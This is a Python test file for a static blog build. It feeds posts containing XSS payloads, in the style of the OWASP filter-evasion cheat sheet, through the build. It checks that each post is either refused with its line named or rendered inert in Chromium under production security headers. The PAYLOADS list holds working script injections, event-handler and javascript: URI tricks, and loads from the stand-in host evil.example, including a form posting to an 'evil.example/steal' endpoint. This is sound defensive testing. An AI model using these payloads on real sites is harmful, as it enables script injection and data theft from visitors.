"""Hostile posts through a real build: refused with the file named, or harmless in a browser.

Two kinds of attack, each through the whole build (``sitetools.build``, our plugins, the
theme) and then, where the build publishes, through Debian's Chromium under the
production security headers (``sitetools.security``):

* ``PAYLOADS``, raw HTML in the style of the OWASP XSS filter evasion cheat sheet (and the
  ways a post could load from another host: images, frames, styles, forms, the video
  facade's own data attributes), one post each. The build must name every post it refuses,
  with a line; the posts it accepts are built again on their own and opened in Chromium;
* generated posts (Hypothesis, seeded) with random Unicode, control characters and those
  payloads in every front-matter field and block option. Each build either fails in the
  authors' format naming the post, with the last good output untouched, or publishes a
  site on which the post, the blog index and the tag page run no injected script, open no
  dialog, report no CSP violation and request nothing from any host but our own.

CI runs a bounded, seeded number of examples (``KP_FUZZ_HOSTILE_EXAMPLES``, default 6, a
few tens of seconds); ``benchmarks/fuzz_hostile.py`` runs many more with fresh seeds.
"""

from __future__ import annotations

import json
import os
from urllib.parse import urlsplit

import pytest
from hypothesis import HealthCheck, given, seed, settings
from hypothesis import strategies as st

from pelicanconf import STUDIO
from sitetools.chromium import launched
from sitetools.security import security_headers
from sitetools.serve import running_server
from tests.sitebuild import AUTHOR_ERROR, build_site, post, problems_about
from tests.test_fuzz_front_matter import Harness

PAYLOADS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=https://evil.example/xss.js></SCRIPT>",
    "<script type=module>alert(1)</script>",
    '<script type="application/ld+json">{"x": "</script><script>alert(1)</script>"}</script>',
    '<IMG SRC="javascript:alert(1);" alt=x>',
    "<IMG SRC=javascript:alert(1) alt=x>",
    "<IMG SRC=JaVaScRiPt:alert(1) alt=x>",
    "<IMG SRC=`javascript:alert(1)` alt=x>",
    '<IMG """><SCRIPT>alert(1)</SCRIPT>">',
    "<IMG SRC=# onmouseover=\"alert('xxs')\" alt=x>",
    '<IMG SRC=/ onerror="alert(String.fromCharCode(88,83,83))" alt=x></img>',
    '<img src=x onerror="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114'
    "&#0000105&#0000112&#0000116&#0000058&#0000097&#0000108&#0000101&#0000114&#0000116"
    '&#0000040&#0000039&#0000088&#0000083&#0000083&#0000039&#0000041" alt=x>',
    '<IMG SRC="jav&#x09;ascript:alert(1);" alt=x>',
    '<IMG SRC="jav&#x0A;ascript:alert(1);" alt=x>',
    '<IMG SRC=" &#14;  javascript:alert(1);" alt=x>',
    "<SCRIPT/XSS SRC=https://evil.example/xss.js></SCRIPT>",
    '<BODY onload!#$%&()*~+-_.,:;?@[/|\\]^`=alert("XSS")>',
    "<<SCRIPT>alert(1);//\\<</SCRIPT>",
    "<SCRIPT SRC=//evil.example/.j>",
    '<IMG SRC="`<javascript:alert>`(1)" alt=x>',
    "<iframe src=https://evil.example/ <",
    "<svg/onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    '<svg><image href="https://evil.example/x.png"/></svg>',
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "<details open ontoggle=alert(1)><summary>x</summary></details>",
    '<INPUT TYPE="IMAGE" SRC="javascript:alert(1);">',
    '<BODY BACKGROUND="javascript:alert(1)">',
    '<IMG DYNSRC="javascript:alert(1)" alt=x>',
    '<STYLE>li {list-style-image: url("javascript:alert(1)");}</STYLE><UL><LI>XSS</br>',
    '<LINK REL="stylesheet" HREF="https://evil.example/xss.css">',
    "<STYLE>@import'https://evil.example/xss.css';</STYLE>",
    '<META HTTP-EQUIV="refresh" CONTENT="0;url=https://evil.example/">',
    '<IFRAME SRC="javascript:alert(1);"></IFRAME>',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<TABLE BACKGROUND="https://evil.example/x.png"><tr><td>x</td></tr></TABLE>',
    '<DIV STYLE="background-image: url(https://evil.example/x.png)">x</DIV>',
    '<BASE HREF="https://evil.example/">',
    '<OBJECT TYPE="text/x-scriptlet" DATA="https://evil.example/scriptlet.html"></OBJECT>',
    '<EMBED SRC="https://evil.example/xss.swf" AllowScriptAccess="always"></EMBED>',
    '<a href="javascript:alert(1)">click</a>',
    '<a href="https://example.com/" ping="https://evil.example/ping">a link</a>',
    '<form action="https://evil.example/steal"><input name=q><button>Go</button></form>',
    '<button form=x formaction="javascript:alert(1)">x</button>',
    '<video poster="https://evil.example/p.jpg" controls></video>',
    '<video controls><source src="https://evil.example/v.mp4" type="video/mp4"></video>',
    '<audio controls src="https://evil.example/a.mp3"></audio>',
    '<picture><source srcset="https://evil.example/a.avif"><img src="/x.jpg" alt=x></picture>',
    '<img src="/x.jpg" srcset="https://evil.example/b.jpg 2x" alt=x>',
    '<img src="//evil.example/x.jpg" alt=x>',
    '<img src="/\\evil.example/x.jpg" alt=x>',
    '<img src="data:image/svg+xml,<svg onload=alert(1)>" alt=x>',
    '<div data-kp-video data-embed="https://evil.example/embed"><button data-kp-video-play>'
    "Play</button></div>",
    '<section data-kp-gallery><a class="kp-gallery__link" href="/x.jpg" '
    'data-srcset="https://evil.example/x.jpg 720w">x</a></section>',
    "![A face](https://tracker.example/face.jpg)",
    "[click](javascript:alert(1))",
    "<xss onclick=alert(1) style=display:block>hover</xss>",
    '<p title="x>y">A quote typography would curl, left open</p>',
    "<textarea>the rest of the page",
]
# What a careful author may write: escaped, inert, or our own origin. Published.
INERT = [
    "`<script>alert(1)</script>` and &lt;img src=x onerror=alert(1)&gt;",
    '<p title="&lt;img src=x onerror=alert(1)&gt;">A title that only looks hostile.</p>',
    '<a href="/blog/what-to-wear/" title="&quot;&gt;&lt;script&gt;alert(1)&lt;/script&gt;">'
    "wear</a>",
    "<details><summary>&lt;svg onload=alert(1)&gt;</summary><p>Inert.</p></details>",
]
# Cheat-sheet payloads that Markdown turns into text (a backtick starts code, a lone "<"
# is escaped): published, and the browser check shows they are text.
BECOME_TEXT = {
    "<IMG SRC=`javascript:alert(1)` alt=x>",
    '<IMG SRC="`<javascript:alert>`(1)" alt=x>',
    "<iframe src=https://evil.example/ <",
}
FRONT = "Title: Payload {number}\nDate: 2026-02-01\nCategory: Headshots\nSlug: payload-{number}"
PAYLOAD_LINE = 8  # four front-matter lines, a blank, "Intro.", a blank


@pytest.fixture(scope="module")
def browser():
    with launched() as chromium:
        yield chromium


def browse(browser, root, paths: list[str]) -> list[str]:
    """What went wrong on ``paths`` of the site in ``root``, served with the production
    headers: dialogs, CSP violations, injected elements, requests to any other host."""
    problems: list[str] = []
    with running_server(root, headers=security_headers(STUDIO)) as base:
        context = browser.new_context()
        own = urlsplit(base).netloc

        def route(route):
            parts = urlsplit(route.request.url)
            if parts.scheme in ("data", "blob") or parts.netloc == own:
                route.continue_()
            else:  # never reach the network: record and refuse
                problems.append(f"request to another host: {route.request.url}")
                route.abort()

        context.route("**/*", route)
        page = context.new_page()
        page.add_init_script(
            "window.__violations = [];"
            "document.addEventListener('securitypolicyviolation', e =>"
            " window.__violations.push(e.violatedDirective + ' ' + e.blockedURI));"
        )
        page.on(
            "dialog", lambda dialog: (problems.append(f"dialog {dialog.message}"), dialog.dismiss())
        )
        for path in paths:
            response = page.goto(base + path, wait_until="load")
            assert response is not None and response.status == 200, path
            page.mouse.move(10, 10)
            page.mouse.move(300, 300)  # onmouseover-style payloads
            page.wait_for_timeout(30)
            state = page.evaluate(
                """() => ({
                  violations: window.__violations,
                  injected: document.querySelectorAll(
                    'img[src="x"], xss, iframe, object, embed, svg script, base, meta[http-equiv]'
                  ).length,
                  handlers: [...document.querySelectorAll('*')].flatMap(e =>
                    [...e.attributes].filter(a => /^on/i.test(a.name)).map(a => a.name)),
                })"""
            )
            if state["violations"] or state["injected"] or state["handlers"]:
                problems.append(f"{path}: {json.dumps(state)}")
        context.close()
    return problems


def test_every_payload_is_refused_with_its_line_or_harmless(tmp_path, browser):
    every = PAYLOADS + INERT
    posts = {
        f"blog/payload-{number}.md": post(FRONT.format(number=number), f"Intro.\n\n{payload}")
        for number, payload in enumerate(every)
    }
    first = build_site(tmp_path / "all", posts)
    assert not first.ok
    for problem in first.problems:
        assert AUTHOR_ERROR.match(problem), f"not in the authors' format: {problem!r}"
    accepted = {}
    for name, text in posts.items():
        named = problems_about(first, name)
        if named:
            lines = {int(m.group("line")) for m in named if m.group("line")}
            assert lines == {PAYLOAD_LINE}, (name, [m.group(0) for m in named])
        else:
            accepted[name] = text
    # What the build publishes is the inert text and what Markdown made text, nothing more.
    published = {every[int(name[len("blog/payload-") : -3])] for name in accepted}
    assert published == set(INERT) | BECOME_TEXT, published
    second = build_site(tmp_path / "accepted", accepted)
    assert second.ok, second.problems
    paths = [f"/blog/{name[5:-3]}/" for name in accepted] + ["/blog/"]
    assert browse(browser, second.output, paths) == []


# Any character at all (controls included) but line breaks, which end a front-matter line.
UNICODE = st.text(
    alphabet=st.characters(
        blacklist_categories=("Cs",), blacklist_characters="\r\n\x85\u2028\u2029"
    ),
    max_size=24,
)
VALUE = st.one_of(
    st.sampled_from(PAYLOADS),
    UNICODE,
    st.tuples(UNICODE, st.sampled_from(PAYLOADS)).map("".join),
)
FIELDS = (
    "Title",
    "Summary",
    "Tags",
    "Author",
    "Image_alt",
    "Cta_headline",
    "Cta_text",
    "Cta_label",
)
HOSTILE = settings(
    max_examples=int(os.environ.get("KP_FUZZ_HOSTILE_EXAMPLES", "6")),
    deadline=None,
    database=None,
    suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow],
)
SEED = int(os.environ.get("KP_FUZZ_SEED", "15"))


def hostile_post(values: dict[str, str], options: list[str]) -> str:
    # Front-matter values on one line; block options as JSON strings (valid YAML strings).
    front = "\n".join(
        f"{key}: Word {values[key]}" if key in ("Tags", "Author") else f"{key}: {values[key]}"
        for key in FIELDS
    )
    caption, before_alt, after_alt, label, headline, text, title = (
        json.dumps(option, ensure_ascii=False) for option in options
    )
    return (
        f"{front}\nDate: 2026-03-01\nCategory: Headshots\nSlug: fuzzed-hostile\n"
        "Image: images/blog/portrait.jpg\n\n"
        f"Intro.\n\n/// compare | Caption {options[0]}\n"
        f"before: images/blog/portrait.jpg\nbefore_alt: {before_alt}\n"
        f"after: images/blog/portrait-edited.jpg\nafter_alt: {after_alt}\n"
        f"labels: [{label}, {caption}]\ndiff: false\n///\n\n"
        f"/// consultation\nheadline: {headline}\ntext: {text}\nlabel: {label}\n///\n\n"
        f"/// video | Video {options[6]}\nurl: https://www.youtube.com/watch?v=abcdefghijk\n"
        f"poster: images/blog/portrait.jpg\n///\n\n"
        # The answer is Markdown, so a payload there is raw HTML: the PAYLOADS test's job.
        f"/// faq\nquestions:\n  - question: {title}\n    answer: Yes, in person.\n///\n"
    )


def test_generated_hostile_posts(tmp_path_factory, browser):
    harness = Harness(tmp_path_factory.mktemp("fuzz-hostile"))
    outcomes = {"refused": 0, "published": 0}

    @seed(SEED)
    @HOSTILE
    @given(
        values=st.fixed_dictionaries({key: VALUE for key in FIELDS}),
        options=st.lists(VALUE, min_size=7, max_size=7),
    )
    def run(values, options):
        source = hostile_post(values, options)
        harness.check(source.encode())  # file named and output untouched when refused
        if not harness.last_ok:
            outcomes["refused"] += 1
            return
        outcomes["published"] += 1
        tag_pages = sorted((harness.output / "blog" / "tag").glob("word-*/index.html"))
        paths = ["/blog/fuzzed-hostile/", "/blog/"] + [
            "/" + str(page.parent.relative_to(harness.output)) + "/" for page in tag_pages[:1]
        ]
        assert browse(browser, harness.output, paths) == []

    run()
    print(f"hostile posts: {outcomes}")
    # Both ends of the contract are exercised: some builds refuse, some publish.
    assert outcomes["refused"] and outcomes["published"], outcomes
